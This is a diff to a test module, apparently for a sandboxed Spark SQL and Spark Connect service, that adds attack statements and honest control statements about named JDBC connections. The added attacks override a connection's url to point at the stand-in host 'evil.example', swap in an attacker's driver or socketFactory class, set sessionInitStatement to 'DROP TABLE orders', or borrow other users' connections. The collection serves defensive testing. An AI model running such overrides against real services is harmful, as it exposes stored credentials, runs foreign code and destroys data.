@@ -37,6 +37,16 @@ _LOGIN = f"dbtable 'sysibm.sysdummy1', user 'app', password '{PASSWORD}'"
 BOUND = f"CREATE TABLE bound USING jdbc OPTIONS (url '{SHOP}', {_LOGIN})"
 
 
+#: Through a connection that is for reading.
+CONNECTED = (
+    "CREATE TABLE connected USING jdbc OPTIONS (sparkconfig.connection 'look', dbtable 'sysibm.sysdummy1')"
+)
+
+
+def _named(more: str, name: str = "shop", source: str = "jdbc") -> str:
+    return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (sparkconfig.connection '{name}', {more})"
+
+
 def _view(url: str, more: str = "", source: str = "jdbc") -> str:
     return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (url '{url}', {_LOGIN}{more})"
 
@@ -204,6 +214,39 @@ STATEMENTS: Mapping[str, Sequence[str]] = {
         "SELECT * FROM bound WITH (url 'jdbc:derby:memory:other;create=true')",
         BOUND.replace("TABLE bound", "TABLE peek").replace("memory:shop", "memory:other"),
     ],
+    "take a connection apart": [
+        _named("dbtable 'sysibm.sysdummy1', url 'jdbc:derby://evil.example:1527/shop'"),
+        _named("dbtable 'sysibm.sysdummy1', `URL` 'jdbc:derby://evil.example:1527/shop'"),
+        _named("dbtable 'sysibm.sysdummy1', Password 'mine'"),
+        _named("dbtable 'sysibm.sysdummy1', user 'admin'"),
+        _named("dbtable 'sysibm.sysdummy1', driver 'com.acme.Own'"),
+        _named("dbtable 'sysibm.sysdummy1', socketFactory 'com.acme.Own'"),
+        _named("dbtable 'sysibm.sysdummy1', connectionProvider 'basic'"),
+        _named("dbtable 'sysibm.sysdummy1', sessionInitStatement 'DROP TABLE orders'"),
+        _named("dbtable 'sysibm.sysdummy1', traceFile '{lake}/trace'"),
+        _named("a 'b'", source="console"),
+        _named("path '{lake}'", source="text"),
+        _named("dbtable 'sysibm.sysdummy1', `SPARKCONFIG.Connection` 'look'"),
+        "SELECT * FROM connected WITH (url 'jdbc:derby:memory:other;create=true')",
+        "SELECT * FROM bound WITH (`sparkconfig.connection` 'shop')",
+        BOUND.replace("TABLE bound", "TABLE peek").replace("(url", "(sparkconfig.connection 'shop', url"),
+    ],
+    "use a connection of somebody else": [
+        _named("dbtable 'sysibm.sysdummy1'", name="hidden"),
+        _named("dbtable 'sysibm.sysdummy1'", name="HIDDEN"),
+        _named("dbtable 'sysibm.sysdummy1'", name="bobs"),
+        _named("dbtable 'sysibm.sysdummy1'", name="Shop"),
+        _named("dbtable 'sysibm.sysdummy1'", name="none of these"),
+        _named("dbtable 'sysibm.sysdummy1'", name=PASSWORD),
+        _named("dbtable 'sysibm.sysdummy1'", name="hidden", source="JDBC"),
+        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'sysibm.sysdummy1')",
+        "CREATE TABLE peek (a INT) USING jdbc OPTIONS (`SparkConfig.CONNECTION` 'hidden', dbtable 'sysibm.sysdummy1')",
+        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'peek') AS SELECT 1 AS a",
+        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'look', dbtable 'peek') AS SELECT 1 AS a",
+        "INSERT INTO connected VALUES ('a')",
+        "INSERT OVERWRITE connected SELECT 'a'",
+        "INSERT INTO TABLE connected (IBMREQD) VALUES ('a')",
+    ],
     "read a password": [
         _csv("nullValue"),
         _csv("password"),
@@ -238,6 +281,21 @@ STATEMENTS: Mapping[str, Sequence[str]] = {
 """What a user tries: the attack to its statements, for both servers. ``{bait}`` and the like are filled in."""
 
 CONNECT: Mapping[str, Sequence[str]] = {
+    "take a connection apart, or use somebody else's": [
+        "spark.read.format('jdbc').options(**shop, dbtable='a', url='{evil}').load().schema",
+        "spark.read.options(**shop).jdbc('{evil}', 'sysibm.sysdummy1').schema",
+        "spark.read.format('jdbc').options(**shop, dbtable='a', PASSWORD='mine').load().schema",
+        "spark.read.format('text').options(**shop).load('{lake}').collect()",
+        "spark.read.format('jdbc').options(**shop, dbtable='a', socketFactory='com.acme.Own').load().schema",
+        "spark.range(1).write.format('jdbc').options(**shop, dbtable='a', driver='com.acme.Own').save()",
+        "spark.range(1).write.format('console').options(**shop).mode('append').save()",
+        "spark.range(1).write.options(**shop).jdbc('{evil}', 'a')",
+        "spark.range(1).write.format('jdbc').options(**look, dbtable='own_looked').save()",
+        "spark.range(1).selectExpr('string(id) IBMREQD').write.insertInto('connected')",
+        "spark.read.format('jdbc').options(**hidden, dbtable='sysibm.sysdummy1').load().collect()",
+        "spark.catalog.createTable('peek', source='jdbc', dbtable='sysibm.sysdummy1', **hidden)",
+        "spark.readStream.format('rate').options(**shop).load().schema",
+    ],
     "read a file": [
         "spark.read.text('{bait}').collect()",
         "spark.read.load('{bait}', format='text').collect()",
@@ -316,6 +374,8 @@ CONNECT_HONEST: Sequence[str] = (
     "spark.range(5).withColumn('a', F.expr('id * 2')).groupBy('a').count().collect()",
     "spark.range(5).write.mode('overwrite').parquet('{lake}/dataframe')",
     "spark.read.parquet('{lake}/dataframe').count()",
+    "spark.read.format('jdbc').options(**look, dbtable='sysibm.sysdummy1').load().count()",
+    "spark.range(3).write.format('jdbc').options(**shop, dbtable='own_frame').save()",
     "spark.read.load(['{lake}/dataframe'], format='parquet').count()",
     "spark.range(5).write.mode('overwrite').saveAsTable('own_rows')",
     "spark.table('own_rows').count()",
@@ -334,6 +394,16 @@ HONEST: Mapping[str, Sequence[str]] = {
         _view(SHOP).replace("peek", "own_orders"),
         "SELECT count(*) FROM own_orders",
         "SELECT count(*) FROM bound",
+    ],
+    "a named connection": [
+        _named("dbtable 'sysibm.sysdummy1'").replace("peek", "own_named"),
+        "SELECT count(*) FROM own_named",
+        "SELECT count(*) FROM connected",
+        _named("dbtable 'own_ids'").replace("OR REPLACE TEMPORARY VIEW peek", "TABLE own_ids")
+        + " AS SELECT 1L AS id",
+        "INSERT INTO own_ids SELECT 4L",
+        "SELECT assert_true(sum(id) = 5) FROM own_ids",
+        "SHOW CREATE TABLE own_ids",
     ],
     "queries": [
         "SELECT 1",
@@ -385,7 +455,10 @@ HONEST: Mapping[str, Sequence[str]] = {
 
 def fill(text: str, folder: Path, server: str) -> str:
     """A statement for the files of :func:`prepare`, and a server of this name."""
-    return text.format(bait=folder / "bait.txt", lake=folder / "lake", folder=folder, server=server)
+    evil = "jdbc:derby:memory:other;create=true"
+    return text.format(
+        bait=folder / "bait.txt", lake=folder / "lake", folder=folder, server=server, evil=evil
+    )
 
 
 def prepare(folder: Path) -> None:
